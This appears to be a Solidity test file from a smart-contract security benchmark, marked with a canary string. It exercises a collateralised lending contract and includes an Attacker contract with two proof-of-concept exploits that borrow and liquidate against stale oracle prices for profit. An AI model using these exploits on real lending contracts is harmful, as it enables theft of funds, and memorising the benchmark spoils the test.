// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CollateralManager.sol";

// assay-canary-9dd2a59b-ec9d-408f-9af8-98af16df8cd0

interface Vm {
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory s) ERC20(s, s) {}

    function mint(address to, uint256 amt) external {
        require(msg.sender == minter);
        _mint(to, amt);
    }
}

contract Weth is Coin("WETH") {}

contract Usd is Coin("USD") {}

contract Feed is IAggregator {
    address private setter = msg.sender;
    uint80 private round;
    uint80 private answered;
    int256 private ans;
    uint256 private at;

    function set(int256 a) external {
        require(msg.sender == setter);
        round++;
        answered = round;
        ans = a;
        at = block.timestamp;
    }

    function begin() external {
        require(msg.sender == setter);
        round++;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (round, ans, at, at, answered);
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANA = address(0xA9A);
    address constant BEN = address(0xBE9);
    address constant CAT = address(0xCA7);

    Weth weth;
    Usd usd;
    Feed feed;
    Feed late;
    CollateralManager m;
    CollateralManager n;
    Attacker mallory;

    // The feed of m has stood at 2,000 for two days, the market is at 1,300. The feed of n has begun a round after an hour at
    // 1,400 and has not answered it, the market is at 2,000 again.
    function setUp() public {
        weth = new Weth();
        usd = new Usd();
        feed = new Feed();
        m = new CollateralManager(weth, usd, feed);
        usd.mint(address(m), 35_000e18);
        weth.mint(ANA, 10e18);
        usd.mint(BEN, 10_000e18);
        vm.prank(ANA);
        weth.approve(address(m), 10e18);
        vm.prank(BEN);
        usd.approve(address(m), 10_000e18);
        feed.set(2_000e8);
        later();
        mallory = new Attacker(m, n, weth, usd);
        weth.mint(address(mallory), 20e18);
        usd.mint(address(mallory), 12_000e18);
        vm.warp(block.timestamp + 2 days);
    }

    function later() private {
        late = new Feed();
        n = new CollateralManager(weth, usd, late);
        usd.mint(address(n), 12_000e18);
        weth.mint(CAT, 10e18);
        late.set(2_000e8);
        vm.startPrank(CAT);
        weth.approve(address(n), 10e18);
        n.lock(10e18);
        n.draw(12_000e18);
        vm.stopPrank();
        late.set(1_400e8);
        late.begin();
    }

    function test_Regular() public {
        feed.set(1_300e8);
        vm.startPrank(ANA);
        m.lock(10e18);
        m.draw(9_000e18);
        require(usd.balanceOf(ANA) == 9_000e18 && m.debtOf(ANA) == 9_000e18, "drawn");
        usd.approve(address(m), 1_000e18);
        m.repay(1_000e18);
        m.free(1e18);
        require(weth.balanceOf(ANA) == 1e18 && m.collOf(ANA) == 9e18, "freed");
        vm.stopPrank();
        vm.warp(block.timestamp + 1 hours);
        feed.set(1_050e8);
        vm.prank(BEN);
        m.seize(ANA, 2_100e18);
        require(weth.balanceOf(BEN) == 2.1e18 && m.debtOf(ANA) == 5_900e18 && m.collOf(ANA) == 6.9e18, "seized");
        vm.warp(block.timestamp + 65 minutes);
        require(m.price() == 1_050e8 && m.last() == 1_050e8 && m.worth(ANA) == 7_245e18, "fresh");
        m.take(1e18);
        require(usd.balanceOf(address(this)) == 1e18, "taken");
    }

    function test_Refuses() public {
        feed.set(2_000e8);
        vm.startPrank(ANA);
        vm.expectRevert(OnlyOwner.selector);
        m.take(1);
        m.lock(10e18);
        vm.expectRevert(Unhealthy.selector);
        m.draw(15_000e18 + 1);
        m.draw(15_000e18);
        vm.expectRevert(Unhealthy.selector);
        m.free(1);
        vm.stopPrank();
        feed.set(1_875e8);
        vm.prank(BEN);
        vm.expectRevert(Healthy.selector);
        m.seize(ANA, 1e18);
    }

    function test_RefusesPrices() public {
        feed.set(0);
        vm.expectRevert(BadPrice.selector);
        m.price();
        feed.set(-1);
        vm.expectRevert(BadPrice.selector);
        m.price();
        feed.set(1);
        feed.begin();
        vm.warp(block.timestamp + 65 minutes);
        require(m.price() == 1, "not old");
        vm.warp(block.timestamp + 1);
        vm.expectRevert(StalePrice.selector);
        m.price();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 30_000e18, "nothing gained");
    }

    function exploit2() public {
        mallory.seize(CAT);
    }

    function test_Exploit2() public {
        exploit2();
        require(weth.balanceOf(address(mallory)) >= 29e18, "nothing gained");
    }

    function pledge() public view returns (address) {
        return address(weth);
    }

    function target2() public view returns (address) {
        return address(n);
    }

    function asset() public view returns (address) {
        return address(usd);
    }

    function target() public view returns (address) {
        return address(m);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CollateralManager m;
    CollateralManager n;
    IERC20 weth;
    IERC20 usd;

    constructor(CollateralManager m_, CollateralManager n_, IERC20 w, IERC20 u) {
        (m, n, weth, usd) = (m_, n_, w, u);
    }

    // 12,000 paid for 9 weth, which are worth 18,000 on the market
    function seize(address who) external {
        usd.approve(address(n), 12_000e18);
        n.seize(who, 12_000e18);
    }

    // 26,000 on the market, 30,000 drawn
    function run() external {
        uint256 b = weth.balanceOf(address(this));
        weth.approve(address(m), b);
        m.lock(b);
        m.draw(b * 1_500);
    }
}
